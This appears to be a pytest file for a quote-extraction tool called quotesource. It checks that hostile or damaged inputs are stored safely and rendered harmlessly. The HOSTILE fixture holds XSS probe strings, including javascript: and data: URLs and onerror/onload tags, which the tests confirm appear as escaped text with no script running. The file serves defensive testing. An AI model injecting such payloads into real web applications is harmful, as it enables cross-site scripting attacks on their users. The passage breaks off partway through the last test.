"""Issue #11, the attack table: each case on real files made here, asserting the database after.

1 XSS through `url` · 2 same file name in two folders · 3 concurrent ingests · 4 missing and
unreadable paths · 5 read-only commands and files that are not quotesource databases · 6 long
articles · 7 encodings and FIFOs · 8 an identical text under a second name. A stand-in parser
(tests/fake_cli.py) is used where a case is about files, databases or processes; cases 1, 2
and 8 go through the real pipeline.

Issue #21 (test_21_*, at the end): damaged WARC, CSV, JSON and JSONL inputs, hostile file names,
unreadable inputs, read-only and full databases, formula cells in exports, page metadata.
"""
from __future__ import annotations

import asyncio
import codecs
import contextlib
import dataclasses
import hashlib
import html
import html.parser
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
import sqlite_utils
from click.testing import CliRunner
from conftest import ROOT, SEED, SHARED, article_a

import fake_cli
from quotesource.cli import cli

SEEDS = SHARED / "seeds" if (SHARED / "seeds").is_dir() else ROOT / "seeds"
SEED_000 = (SEEDS / "000_519bc00425e63432.txt").read_text(encoding="utf-8")
SEED_004 = (SEEDS / "004_a646d51f14c3277e.txt").read_text(encoding="utf-8")
FAKE_CLI = Path(__file__).with_name("fake_cli.py")


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def fake_run(*args, timeout=120, **kwargs) -> subprocess.CompletedProcess:
    """The CLI with the stand-in parser, in its own process."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(ROOT / "src"), str(FAKE_CLI.parent), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, str(FAKE_CLI), *map(str, args)], capture_output=True,
                          text=True, timeout=timeout, env=env, **kwargs)


@pytest.fixture
def fake_parser(monkeypatch):
    fake_cli.FakeParser.calls = 0
    fake_cli.install(monkeypatch)
    return fake_cli.FakeParser


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tables(db_path: Path) -> dict[str, list]:
    db = sqlite_utils.Database(db_path)
    return {t: list(db[t].rows) for t in db.table_names() if not t.startswith("_")
            and "_fts" not in t}


def paths_of(db_path: Path) -> dict[str, str]:
    """Each stored path and name -> the text it points at."""
    db = sqlite_utils.Database(db_path)
    return {f"{r['path']}#{r['name']}": r["text"] for r in db.query(
        "select p.path, p.name, a.text from article_paths p join articles a on a.id = p.article_id")}


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error: ")]


# --- 1. links only for http and https ----------------------------------------------------------

HOSTILE = [
    {"id": "hostile", "url": "javascript:alert(document.domain)",
     "title": "</title><script>alert('title')</script><img src=x onerror=alert('title2')>",
     "outlet": "<img src=x onerror=alert('outlet')>", "author": "\"><svg onload=alert('author')>",
     "text": SEED_004.replace("a senior U.S. official said",
                              "a senior U.S. official said <img src=x onerror=alert('text')>"
                              " <script>alert('text2')</script>")},
    {"id": "tabbed", "url": " java\tscript:alert('tab')", "title": "Tabbed",
     "text": SEED_000},
    {"id": "data", "url": "data:text/html,<script>alert('data')</script>", "text": "Plain.\n"
     "\u201cNothing to see,\u201d the spokesman said."},
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    feed = folder / "feed.jsonl"
    feed.write_text("\n".join(json.dumps(r) for r in HOSTILE) + "\n", encoding="utf-8")
    db_path = folder / "quotes.db"
    result = run("ingest", db_path, feed)      # the real pipeline
    assert result.exit_code == 0, result.output
    return db_path


class _Links(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.urls, self.scripts, self._in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        self.urls += [v for k, v in attrs if k in ("href", "src", "action", "formaction") and v]
        self.scripts += [k for k, _ in attrs if k.startswith("on")]
        self._in_script = tag == "script"

    def handle_data(self, data):
        if self._in_script and "alert" in data:
            self.scripts.append(data)

    def handle_endtag(self, tag):
        self._in_script = False


def _scheme(url: str) -> str:
    # What a browser does first: strip C0 controls and spaces, drop tabs and newlines.
    url = re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e"
                                             "\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"
                                             "\x1b\x1c\x1d\x1e\x1f "))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else ""


def test_1_no_javascript_link_on_any_page(hostile_db):
    from datasette.app import Datasette

    from quotesource.publish import serve as publish

    db = sqlite_utils.Database(hostile_db)
    assert db["articles"].count == 3
    stored = {r["name"]: r for r in db["articles"].rows}
    assert stored["hostile"]["url"] == "javascript:alert(document.domain)"   # kept, as data
    ds = Datasette([str(hostile_db)], metadata=publish.load_metadata())
    pages = ["/quotes/articles", "/quotes/attributions", "/quotes/article_stats",
             "/quotes/unexplained_anonymous"]
    for row in stored.values():
        pages += [f"/quotes/-/article/{row['id']}", f"/quotes/articles/{row['id']}"]
    for page in pages:
        response = asyncio.run(ds.client.get(page))
        assert response.status_code == 200, page
        links = _Links()
        links.feed(response.text)
        assert {_scheme(u) for u in links.urls} <= {"", "http", "https"}, (page, links.urls)
        assert links.scripts == [], (page, links.scripts)
    article = asyncio.run(ds.client.get(f"/quotes/-/article/{stored['hostile']['id']}")).text
    assert "javascript:alert(document.domain)" in article      # shown as text, not a link
    assert "&lt;img src=x onerror=alert(&#39;outlet&#39;)&gt;" in article


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


class DevTools:
    """Headless Chromium driven over the DevTools protocol on a pipe (fds 3 and 4): no library."""

    def __init__(self, profile: Path):
        import queue
        import threading

        import fcntl

        to_chrome, self._chrome_in = os.pipe()
        self._chrome_out, from_chrome = os.pipe()
        # Above 9 (bash, not dash, takes such numbers), so "3<&N 4>&M" never overwrites one
        # with the other.
        low = (to_chrome, from_chrome)
        to_chrome, from_chrome = (fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 10) for fd in low)
        for fd in low:
            os.close(fd)
        self.process = subprocess.Popen(
            ["bash", "-c", f'exec "$0" "$@" 3<&{to_chrome} 4>&{from_chrome}', CHROMIUM,
             "--headless", "--no-sandbox", "--disable-gpu", "--remote-debugging-pipe",
             "--disable-background-networking", "--disable-component-update", "--no-first-run",
             "--disable-sync", f"--user-data-dir={profile}", "about:blank"],
            pass_fds=(to_chrome, from_chrome), stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)
        os.close(to_chrome)
        os.close(from_chrome)
        self.events, self._replies, self._next = [], queue.Queue(), 0
        self._lock = threading.Lock()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        buffer = b""
        while chunk := os.read(self._chrome_out, 65536):   # until Chromium exits
            buffer += chunk
            while b"\0" in buffer:
                raw, buffer = buffer.split(b"\0", 1)
                message = json.loads(raw)
                if "id" in message:
                    self._replies.put(message)
                    continue
                self.events.append(message)
                if message["method"] == "Page.javascriptDialogOpening":   # a script ran
                    self.send("Page.handleJavaScriptDialog", {"accept": True},
                              message.get("sessionId"))

    def send(self, method, params=None, session=None) -> int:
        with self._lock:
            self._next += 1
            message = {"id": self._next, "method": method, "params": params or {}}
            if session:
                message["sessionId"] = session
            os.write(self._chrome_in, json.dumps(message).encode() + b"\0")
            return self._next

    def call(self, method, params=None, session=None, timeout=60):
        wanted = self.send(method, params, session)
        deadline = time.monotonic() + timeout
        while True:
            reply = self._replies.get(timeout=max(0.1, deadline - time.monotonic()))
            if reply["id"] == wanted:
                assert "error" not in reply, reply
                return reply["result"]

    def new_page(self) -> str:
        """A blank page with its events on: its session id."""
        target = self.call("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = self.call("Target.attachToTarget", {"targetId": target, "flatten": True})[
            "sessionId"]
        self.call("Page.enable", session=session)
        return session

    def load(self, session, url, timeout=60):
        seen = len(self.events)
        self.call("Page.navigate", {"url": url}, session)
        deadline = time.monotonic() + timeout
        while not any(e["method"] == "Page.loadEventFired" for e in self.events[seen:]):
            assert time.monotonic() < deadline, f"{url} did not load"
            time.sleep(0.05)

    def evaluate(self, session, expression):
        result = self.call("Runtime.evaluate", {"expression": expression, "returnByValue": True},
                           session)
        return result["result"].get("value")

    def close(self):
        self.process.kill()
        self.process.wait()
        os.close(self._chrome_in)      # the reader thread ends on its own, at end of file


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install -y chromium)")
def test_1_hostile_article_in_chromium_runs_no_script(hostile_db, tmp_path):
    from quotesource.publish.serve import background_server

    ids = [r["id"] for r in sqlite_utils.Database(hostile_db)["articles"].rows]
    chrome = DevTools(tmp_path / "profile")
    try:
        session = chrome.new_page()
        not_web = []
        with background_server(hostile_db) as server:
            for page in [*(f"/quotes/-/article/{i}" for i in ids), "/quotes/articles",
                         *(f"/quotes/articles/{i}" for i in ids)]:
                chrome.load(session, server + page)
                hrefs = chrome.evaluate(session, "[...document.querySelectorAll('[href]')]"
                                                 ".map(e => e.href)")
                not_web += [h for h in hrefs if not h.startswith(("http:", "https:"))]
                # Click whatever is not an http(s) link: a javascript: URL would run now.
                chrome.evaluate(session, "for (const a of document.querySelectorAll('a'))"
                                         " if (!/^https?:$/.test(a.protocol)) a.click()")
                time.sleep(0.5)
        dialogs = [e["params"]["message"] for e in chrome.events
                   if e["method"] == "Page.javascriptDialogOpening"]
        assert dialogs == []
        assert not_web == []
        assert sum(e["method"] == "Page.loadEventFired" for e in chrome.events) >= 6
    finally:
        chrome.close()


# --- 2. two files with one name in different folders --------------------------------------------

def test_2_same_name_in_two_folders_both_stored_and_reruns_stable(tmp_path):
    for year, text in (("2023", SEED_000), ("2024", SEED_004)):
        (tmp_path / "corpus" / year).mkdir(parents=True)
        (tmp_path / "corpus" / year / "story.txt").write_text(text, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    first = run("ingest", db_path, tmp_path / "corpus")          # the real pipeline
    assert first.exit_code == 0, first.output
    assert "2 inserted, 0 replaced, 0 unchanged" in first.stderr
    corpus = tmp_path / "corpus"
    assert paths_of(db_path) == {f"{corpus / '2023' / 'story.txt'}#story": SEED_000,
                                 f"{corpus / '2024' / 'story.txt'}#story": SEED_004}
    db = sqlite_utils.Database(db_path)
    assert sorted(r["text"] for r in db["articles"].rows) == sorted([SEED_000, SEED_004])
    assert {r["name"] for r in db["article_stats"].rows} == {"story"}
    assert db["article_stats"].count == 2
    before = tables(db_path)
    for _ in range(2):
        again = run("ingest", db_path, tmp_path / "corpus")
        assert again.exit_code == 0 and "0 inserted, 0 replaced, 2 unchanged" in again.stderr
        assert tables(db_path) == before


# --- 3. concurrent ingests -----------------------------------------------------------------------

def test_3_four_concurrent_ingests_store_every_article(tmp_path):
    sentences = [s for s in re.split(r"(?<=\.)\s+", SEED_004) if s.strip()]
    feeds = []
    for process in range(4):
        feed = tmp_path / f"feed{process}.jsonl"
        feed.write_text("".join(
            json.dumps({"id": f"p{process}-{n}",
                        "text": f"Report {process}-{n}.\n" + " ".join(sentences[n % 10:][:5])})
            + "\n" for n in range(30)), encoding="utf-8")
        feeds.append(feed)
    db_path = tmp_path / "quotes.db"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(ROOT / "src"), str(FAKE_CLI.parent), os.environ.get("PYTHONPATH", "")])}
    processes = [subprocess.Popen([sys.executable, str(FAKE_CLI), "ingest", str(db_path),
                                   str(feed)], stderr=subprocess.PIPE, text=True, env=env)
                 for feed in feeds]
    outcomes = [(p.wait(timeout=300), p.stderr.read()) for p in processes]
    assert [rc for rc, _ in outcomes] == [0, 0, 0, 0], outcomes
    for _, stderr in outcomes:
        assert "30 inserted" in stderr and "Traceback" not in stderr
    db = sqlite_utils.Database(db_path)
    assert db["articles"].count == 120
    assert {r["name"] for r in db["article_paths"].rows} == {
        f"p{p}-{n}" for p in range(4) for n in range(30)}
    assert db.execute("pragma journal_mode").fetchone()[0] == "wal"
    assert db.execute("pragma integrity_check").fetchone()[0] == "ok"


def test_3_kill_9_mid_ingest_leaves_a_database_that_a_rerun_completes(tmp_path):
    feed = tmp_path / "feed.jsonl"
    feed.write_text("".join(json.dumps({"id": f"a{n}", "text": f"Item {n}.\n{SEED_000}"}) + "\n"
                            for n in range(300)), encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(ROOT / "src"), str(FAKE_CLI.parent), os.environ.get("PYTHONPATH", "")])}
    process = subprocess.Popen([sys.executable, str(FAKE_CLI), "ingest", str(db_path), str(feed)],
                               stderr=subprocess.DEVNULL, env=env)
    deadline = time.monotonic() + 120
    stored = 0
    while stored < 5 and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.2)
        try:
            with sqlite3.connect(f"file:{db_path}?mode=ro", uri=True, timeout=5) as conn:
                stored = conn.execute("select count(*) from articles").fetchone()[0]
        except sqlite3.Error:
            pass
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        assert conn.execute("select count(*) from articles a where not exists (select 1 from "
                            "article_paths p where p.article_id = a.id)").fetchone()[0] == 0
    done = fake_run("ingest", db_path, feed)
    assert done.returncode == 0, done.stderr
    assert sqlite_utils.Database(db_path)["articles"].count == 300


# --- 4. missing and unreadable paths --------------------------------------------------------------

def test_4_bad_paths_each_get_one_line_and_the_rest_is_stored(tmp_path, fake_parser):
    good = tmp_path / "good.txt"
    good.write_text(SEED_004, encoding="utf-8")
    missing = tmp_path / "missing.txt"
    dangling = tmp_path / "dangling.txt"
    dangling.symlink_to(tmp_path / "nowhere.txt")
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    too_long = tmp_path / ("x" * 300 + ".txt")
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "inner.txt").symlink_to(folder / "inner.txt")      # a loop inside a directory
    (folder / "fine.txt").write_text(SEED_000, encoding="utf-8")
    locked = tmp_path / "locked.txt"
    locked.write_text("Locked\nA body nobody may read.", encoding="utf-8")
    locked.chmod(0)
    db_path = tmp_path / "quotes.db"
    bad = [missing, dangling, loop, too_long, folder / "inner.txt"]
    result = run("ingest", db_path, missing, good, dangling, loop, too_long, folder, locked)
    assert result.exit_code == 1, result.output
    errors = error_lines(result.stderr)
    if os.geteuid() != 0:           # root reads any file
        bad.append(locked)
    assert len(errors) == len(bad), errors
    for path, line in zip(bad, errors):
        assert line.startswith(f"error: {path}: "), (path, line)
    assert "no such file or directory" in errors[0] and "loop" in errors[2]
    stored = set(paths_of(db_path))
    assert {f"{good}#good", f"{folder / 'fine.txt'}#fine"} <= stored
    assert len(stored) == 2 + (os.geteuid() == 0)
    # extract too: per-path errors, exit code 1, never a usage error
    result = run("extract", missing, good)
    assert result.exit_code == 1 and error_lines(result.stderr) == [
        f"error: {missing}: no such file or directory"]


# --- 5. read-only commands; files that are not quotesource databases ------------------------------

def test_5_read_only_commands_never_change_a_database(tmp_path, fake_parser):
    db_path = tmp_path / "quotes.db"
    (tmp_path / "a.txt").write_text(SEED_004, encoding="utf-8")
    assert run("ingest", db_path, tmp_path / "a.txt").exit_code == 0
    before = sha256(db_path)
    assert run("stats", db_path).exit_code == 0
    assert run("export", db_path, "-t", "article_stats", "-o", tmp_path / "out.csv").exit_code == 0
    assert run("stats", db_path, "--json").exit_code == 0
    assert sha256(db_path) == before

    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("create table notes (id integer primary key, body text)")
        conn.execute("insert into notes (body) values ('mine')")
    conn.close()
    plain = tmp_path / "notes.db"
    plain.write_text("these are my notes, not a database\n" * 100)
    for target, problem in ((other, "not a quotesource database"),
                            (plain, "not a SQLite database")):
        expected = sha256(target)
        for args in (["stats", target], ["export", target, "-o", tmp_path / "x.csv"],
                     ["serve", target], ["ingest", target, tmp_path / "a.txt"]):
            result = run(*args)
            assert result.exit_code == 1, (args, result.output)
            assert result.output.strip() == f"Error: {target}: {problem}", args
            assert "Traceback" not in result.output
        assert sha256(target) == expected
    assert fake_parser.calls == 1          # only the first ingest parsed anything
    assert not (tmp_path / "x.csv").exists()
    with sqlite3.connect(other) as conn:
        assert [r[0] for r in conn.execute("select name from sqlite_master")] == ["notes"]
    conn.close()


# --- 6. long articles --------------------------------------------------------------------------

def test_6_max_chars_refuses_a_long_article_with_one_line(tmp_path, fake_parser):
    from quotesource.ingest import MAX_CHARS

    long_text = "\n\n".join([SEED_004] * (MAX_CHARS // len(SEED_004) + 2))
    (tmp_path / "long.txt").write_text(long_text, encoding="utf-8")
    (tmp_path / "short.txt").write_text(SEED_000, encoding="utf-8")
    (tmp_path / "feed.jsonl").write_text(json.dumps({"id": "big", "text": long_text}) + "\n",
                                         encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, tmp_path)
    assert result.exit_code == 1
    assert error_lines(result.stderr) == [
        f"error: {tmp_path / 'feed.jsonl'}: line 1: article too long: {len(long_text):,} "
        f"characters (the limit is {MAX_CHARS:,}; see --max-chars)",
        f"error: {tmp_path / 'long.txt'}: article too long: {len(long_text):,} characters "
        f"(the limit is {MAX_CHARS:,}; see --max-chars)"]
    assert list(paths_of(db_path).values()) == [SEED_000]
    # Raised limit: stored whole, processed in pieces, offsets into the whole text.
    result = run("ingest", db_path, tmp_path / "long.txt", "--max-chars", len(long_text))
    assert result.exit_code == 0, result.output
    row = sqlite_utils.Database(db_path)["articles"].get(
        hashlib.sha256(long_text.encode()).hexdigest())
    assert row["text"] == long_text and (row["body_start"], row["body_end"]) == (
        0, len(long_text.rstrip()))


class ReplayParser:
    """The real parse of seed 004, repeated: a parse of any piece of SEED_004 * n, instantly."""

    def __init__(self, unit: str, doc):
        self.unit, self.doc, self.calls = unit, doc, []

    def parse(self, texts, needs_parse=None):
        from quotesource.nlp import Entity, ParsedDoc, Sentence

        docs = []
        for text in texts:
            self.calls.append(len(text))
            offset = (self.unit * (len(text) // len(self.unit) + 2)).find(text)
            assert offset >= 0
            sentences, entities = [], []
            for k in range(len(text) // len(self.unit) + 2):
                shift = k * len(self.unit) - offset
                for s in self.doc.sentences:
                    if 0 <= s.start + shift and s.end + shift <= len(text):
                        sentences.append(Sentence(s.start + shift, s.end + shift, [
                            dataclasses.replace(w, start=w.start + shift, end=w.end + shift)
                            for w in s.words]))
                entities += [Entity(e.start + shift, e.end + shift, e.type, e.text)
                             for e in self.doc.entities
                             if 0 <= e.start + shift and e.end + shift <= len(text)]
            docs.append(ParsedDoc(text, sentences, entities))
        return docs


def test_6_time_grows_linearly_with_article_length(extractor):
    """Coreference compares each mention with those before it; a whole long article made that
    quadratic or worse (270,000 characters of real news: 52 s against 0.45 s for 34,000)."""
    from quotesource.pipeline import Extractor
    from quotesource.records import Article
    from quotesource.segments import SEGMENT_CHARS

    unit = SEED_000 + "\n\n" + SEED_004 + "\n\n"
    replay = ReplayParser(unit, extractor.parser.parse([unit])[0])
    fake = Extractor()
    fake._parser = replay
    seconds = {}
    for pieces in (2, 12):
        text = unit * (pieces * SEGMENT_CHARS // len(unit))
        replay.calls.clear()
        started = time.perf_counter()
        (result,) = fake.results_for([Article(id="long", text=text)])
        seconds[pieces] = time.perf_counter() - started
        # parsed and attributed in bounded pieces, whatever the length
        assert max(replay.calls) <= SEGMENT_CHARS and sum(replay.calls) == len(text)
        per_unit = [a for a in result.attributions if a.content.end <= len(unit)]
        assert len(result.attributions) >= 0.9 * len(per_unit) * (len(text) // len(unit))
        for a in result.attributions:            # offsets into the whole text
            assert text[a.content.start:a.content.end] == a.content.text
    # Six times the length: linear is about 6x (the stand-in parser adds a little); quadratic,
    # what this guards against, was 36x and more. Loose, as timings on a shared machine vary.
    assert seconds[12] < 15 * seconds[2] + 2, seconds


def test_6_article_page_is_split_into_parts_and_renders_fast(tmp_path):
    from datasette.app import Datasette

    from quotesource.publish import serve as publish
    from quotesource.publish.article_page import Mark, highlight
    from quotesource.store.articles import save_results

    unit = SEED_004 + "\n\n"
    repeats = 150                                       # about 670,000 characters
    text = unit * repeats
    one = article_a(SEED_004)

    def shift(span, by):
        return span and dataclasses.replace(span, start=span.start + by, end=span.end + by)

    result = article_a(SEED_004)
    result.article = dataclasses.replace(
        result.article, text=text, body_end=len(text),
        content_hash=hashlib.sha256(text.encode()).hexdigest())
    result.attributions = [dataclasses.replace(a, content=shift(a.content, k * len(unit)),
                                               cue=shift(a.cue, k * len(unit)),
                                               speaker=shift(a.speaker, k * len(unit)))
                           for k in range(repeats) for a in one.attributions]
    db_path = tmp_path / "quotes.db"
    with sqlite_utils.Database(db_path) as db:
        save_results(db, [result], "v1")
        last = next(db.query("select id from attributions order by position desc limit 1"))["id"]
    ds = Datasette([str(db_path)], metadata=publish.load_metadata())
    url = f"/quotes/-/article/{result.article.content_hash}"
    first = asyncio.run(ds.client.get(url))
    assert first.status_code == 200
    assert len(first.text) < 600_000 and "Part 1 of" in first.text
    assert f'id="a-{last}"' not in first.text
    page = asyncio.run(ds.client.get(f"{url}?a={last}"))
    assert page.status_code == 200 and f'id="a-{last}"' in page.text
    # the attributions page links there
    # (by id: metadata.yml offers no sort on position, which would need an index at 1M rows)
    rows = asyncio.run(ds.client.get(f"/quotes/attributions?id={last}")).text
    assert f'{url}?a={last}#a-{last}' in rows
    # highlighting is linear in text and marks
    big = unit * 40
    marks = [Mark(s, s + 20, "x") for s in range(0, len(big) - 20, 30)]
    started = time.perf_counter()
    highlight(big, marks)
    assert time.perf_counter() - started < 2


# --- 7. encodings and FIFOs -------------------------------------------------------------------------

def test_7_boms_are_honoured_and_other_encodings_detected_with_a_warning(tmp_path, fake_parser):
    files = {"utf8bom.txt": codecs.BOM_UTF8 + SEED_004.encode("utf-8"),
             "utf16le.txt": codecs.BOM_UTF16_LE + SEED_004.encode("utf-16-le"),
             "utf16be.txt": codecs.BOM_UTF16_BE + SEED_004.encode("utf-16-be"),
             "utf32.txt": codecs.BOM_UTF32_LE + SEED_004.encode("utf-32-le"),
             "windows.txt": SEED_000.encode("cp1252"),
             "feed16.jsonl": codecs.BOM_UTF16_LE + (json.dumps(
                 {"id": "j16", "text": SEED_000}, ensure_ascii=False) + "\n").encode("utf-16-le")}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, *(tmp_path / name for name in files))
    assert result.exit_code == 0, result.output
    assert error_lines(result.stderr) == []
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    offset, byte = next((i, b) for i, b in enumerate(files["windows.txt"]) if b > 127)
    assert warnings == [f"warning: {tmp_path / 'windows.txt'}: not UTF-8 (invalid byte "
                        f"0x{byte:02x} at offset {offset}); decoded as cp1252, detected by "
                        "charset-normalizer"]
    stored = paths_of(db_path)
    for name in ("utf8bom.txt", "utf16le.txt", "utf16be.txt", "utf32.txt"):
        assert stored[f"{tmp_path / name}#{name[:-4]}"] == "\ufeff" + SEED_004   # BOM kept
    assert stored[f"{tmp_path / 'windows.txt'}#windows"] == SEED_000
    assert stored[f"{tmp_path / 'feed16.jsonl'}#j16"] == SEED_000
    encodings = {r["name"]: r["encoding"]
                 for r in sqlite_utils.Database(db_path)["article_paths"].rows}
    assert encodings == {"utf8bom": "utf-8", "utf16le": "utf-16-le", "utf16be": "utf-16-be",
                         "utf32": "utf-32-le", "windows": "cp1252", "j16": "utf-16-le"}


def test_7_a_fifo_is_an_error_not_a_hang(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    folder = tmp_path / "folder"
    folder.mkdir()
    os.mkfifo(folder / "inner.jsonl")
    (folder / "good.txt").write_text(SEED_004, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = fake_run("ingest", db_path, fifo, folder, timeout=120)
    assert result.returncode == 1, result.stderr
    assert error_lines(result.stderr) == [
        f"error: {fifo}: not a regular file (FIFO)",
        f"error: {folder / 'inner.jsonl'}: not a regular file (FIFO)"]
    assert list(paths_of(db_path)) == [f"{folder / 'good.txt'}#good"]


# --- 8. an identical text under a second name --------------------------------------------------------

def test_8_identical_text_under_a_second_name_records_that_name(tmp_path):
    (tmp_path / "first.txt").write_text(SEED_004, encoding="utf-8")
    (tmp_path / "second.txt").write_text(SEED_004, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, tmp_path / "first.txt")            # the real pipeline
    assert result.exit_code == 0 and "1 inserted" in result.stderr
    result = run("ingest", db_path, tmp_path / "first.txt", tmp_path / "second.txt")
    assert result.exit_code == 0
    assert "0 inserted, 0 replaced, 1 unchanged, 1 new name(s)" in result.stderr
    assert paths_of(db_path) == {f"{tmp_path / 'first.txt'}#first": SEED_004,
                                 f"{tmp_path / 'second.txt'}#second": SEED_004}
    db = sqlite_utils.Database(db_path)
    assert db["articles"].count == 1
    attributions = db["attributions"].count
    assert attributions >= 5
    before = tables(db_path)
    result = run("ingest", db_path, tmp_path / "second.txt", tmp_path / "first.txt")
    assert "0 inserted, 0 replaced, 2 unchanged, 0 new name(s)" in result.stderr
    assert tables(db_path) == before
    # the article page names both files
    from datasette.app import Datasette

    from quotesource.publish import serve as publish
    ds = Datasette([str(db_path)], metadata=publish.load_metadata())
    page = asyncio.run(ds.client.get(f"/quotes/-/article/{next(db['articles'].rows)['id']}"))
    assert str(tmp_path / "first.txt") in page.text and str(tmp_path / "second.txt") in page.text


# --- Issue #21: damaged inputs -------------------------------------------------------------------
# Each: one line naming the file and the problem, the run goes on, nothing damaged is stored as
# if complete, nothing stored is lost, exit code 1.

def page_html(text: str) -> bytes:
    title, _, body = text.partition("\n")
    paragraphs = "".join(f"<p>{html.escape(p)}</p>" for p in body.split("\n") if p.strip())
    return (f"<html><head><title>{html.escape(title[:80])}</title></head><body><article>"
            f"<h1>{html.escape(title[:80])}</h1>{paragraphs}</article></body></html>").encode()


def warc_bytes(pages: list[tuple[str, bytes]], gzipped: bool) -> bytes:
    import io

    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    writer = WARCWriter(out, gzip=gzipped)
    for url, body in pages:
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")],
                                   protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body),
                                                      http_headers=headers))
    return out.getvalue()


def test_21_1_damaged_warc_files_store_only_their_complete_records(tmp_path, fake_parser):
    import gzip

    pages = [("https://example.com/one", page_html(SEED_000)),
             ("https://example.com/two", page_html(SEED_004))]
    plain, packed = warc_bytes(pages, gzipped=False), warc_bytes(pages, gzipped=True)
    second = plain.index(b"WARC/1.0", 10)            # where record 2 starts
    first_member_end = len(warc_bytes(pages[:1], gzipped=True))
    length_at = plain.index(b"Content-Length: ") + len(b"Content-Length: ")
    length_end = plain.index(b"\r\n", length_at)
    too_long = int(plain[length_at:length_end]) + (len(plain) - second) // 2
    files = {
        "cut.warc": plain[:second + (len(plain) - second) // 2],     # inside record 2's page
        "cut.warc.gz": packed[:first_member_end + 200],               # inside record 2's gzip
        "header.warc": plain[:second + 40],                           # inside record 2's header
        "swallow.warc": plain[:length_at] + str(too_long).encode() + plain[length_end:],
        "whole.warc.gz": gzip.compress(plain),           # `gzip crawl.warc`: one gzip member
        "notwarc.warc.gz": gzip.compress(b"these are my notes\n" * 50),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, tmp_path)
    assert result.exit_code == 1, result.output
    assert "WARNING" not in result.stderr and "Traceback" not in result.stderr
    errors = error_lines(result.stderr)
    assert len(errors) == 5 and len(result.stderr.splitlines()) == 6, result.stderr
    by_file = {name: next(e for e in errors if e.startswith(f"error: {tmp_path / name}: "))
               for name in files if name != "whole.warc.gz"}
    assert "record 2 (https://example.com/two): truncated" in by_file["cut.warc"]
    assert "record 2" in by_file["cut.warc.gz"] and "cut short" in by_file["cut.warc.gz"]
    assert "record 2: " in by_file["header.warc"] and "header" in by_file["header.warc"]
    assert "record 1 (https://example.com/one): " in by_file["swallow.warc"]
    assert "Content-Length" in by_file["swallow.warc"]
    assert "not a WARC file" in by_file["notwarc.warc.gz"]
    seed_000_body = SEED_000.partition("\n")[2].strip()[:200]
    stored = paths_of(db_path)
    assert sorted(stored) == sorted(f"{tmp_path / name}#{name.split('.')[0]}-{n}"
                                    for name, n in (("cut.warc", 1), ("cut.warc.gz", 1),
                                                    ("header.warc", 1), ("whole.warc.gz", 1),
                                                    ("whole.warc.gz", 2)))
    for place, text in stored.items():
        assert text.strip(), place
        if place.endswith("-1"):
            assert seed_000_body[:100] in text


def test_21_2_repeated_ids_are_refused_and_an_unclosed_quote_costs_only_its_row(tmp_path,
                                                                                 fake_parser):
    (tmp_path / "table.csv").write_text(
        "id,text,title\n"
        "a,\"First story, told once.\",One\n"
        "b,\"Second story with an unclosed quote,Two\n"
        "c,Third story.,Three\n"
        "a,A different story under the first id.,Four\n"
        "d,Fourth story.,Five\n", encoding="utf-8")
    (tmp_path / "feed.jsonl").write_text("".join(json.dumps(r) + "\n" for r in (
        {"id": "x", "text": "The first x."}, {"id": "x", "text": "The second x."},
        {"text": "No id: named feed-3."}, {"id": "feed-3", "text": "Takes feed-3 again."})),
        encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, tmp_path)
    assert result.exit_code == 1, result.output
    table, feed = tmp_path / "table.csv", tmp_path / "feed.jsonl"
    assert error_lines(result.stderr) == [
        f"error: {feed}: line 2: id 'x' is already used by line 1 of this file; not read "
        "(ids must be unique within a file)",
        f"error: {feed}: line 4: id 'feed-3' is already used by line 3 of this file; not read "
        "(ids must be unique within a file)",
